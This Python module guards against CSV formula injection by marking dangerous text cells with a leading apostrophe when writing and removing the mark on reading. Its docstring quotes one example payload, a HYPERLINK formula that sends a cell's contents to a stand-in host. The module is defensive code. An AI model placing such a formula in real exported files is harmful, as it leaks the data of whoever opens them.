"""What a cell of a CSV we write holds, and what it meant when we read it back.

Excel and LibreOffice run a CSV cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return before one) as a formula: a school name such as
``=HYPERLINK("http://x.example/?leak="&A1,"click")`` would become a live link in every
office that opens the file. As OWASP's guidance on CSV injection says, such a text cell is
written with a leading apostrophe: a spreadsheet then shows the cell as text, the
apostrophe visible, and runs nothing. Reading our own CSVs back removes that apostrophe, so a
name keeps its meaning through a round trip. Numbers are not text: a negative cost stays a
number.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, TypeVar

if TYPE_CHECKING:
    import pandas as pd

MARK = "'"
"""What a text cell a spreadsheet would run as a formula begins with in our CSVs."""

_FORMULA_START = re.compile(r"'*[=+\-@\t\r]")
"""A text that needs the mark: one a spreadsheet runs as a formula, or one that, after
apostrophes of its own, begins like one (so that reading back takes only our mark off)."""

Cell = TypeVar("Cell")


def to_csv_cell(value: Cell) -> Cell | str:
    """``value`` as a CSV cell: a text that begins with ``= + - @``, a tab or a carriage
    return (after any apostrophes of its own) gains a leading apostrophe; anything else,
    numbers among it, is written as it is."""
    if isinstance(value, str) and _FORMULA_START.match(value):
        return MARK + value
    return value


def from_csv_cell(text: str) -> str:
    """A cell of a CSV we wrote, as it was before :func:`to_csv_cell`: the apostrophe it
    added taken off, every other text unchanged."""
    if text.startswith(MARK) and _FORMULA_START.match(text, 1):
        return text[1:]
    return text


def csv_rows(rows: Iterable[Iterable[object]]) -> str:
    """Rows as CSV text with Windows line ends (what Excel writes), each cell through
    :func:`to_csv_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerows([to_csv_cell(value) for value in row] for row in rows)
    return out.getvalue()


def frame_csv(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text without its index, its headers and text cells through
    :func:`to_csv_cell`; numeric columns are written as pandas writes them. Lines end as in
    :func:`csv_rows`, which also makes the writer quote a name holding a carriage return
    (with ``\n`` alone it did not, and the file no longer read back)."""
    from pandas.api.types import is_numeric_dtype

    guarded = frame.copy()
    for column in frame.columns:
        if not is_numeric_dtype(frame[column]):
            guarded[column] = frame[column].map(to_csv_cell)
    guarded.columns = [to_csv_cell(str(c)) for c in frame.columns]
    return guarded.to_csv(index=False, lineterminator="\r\n")
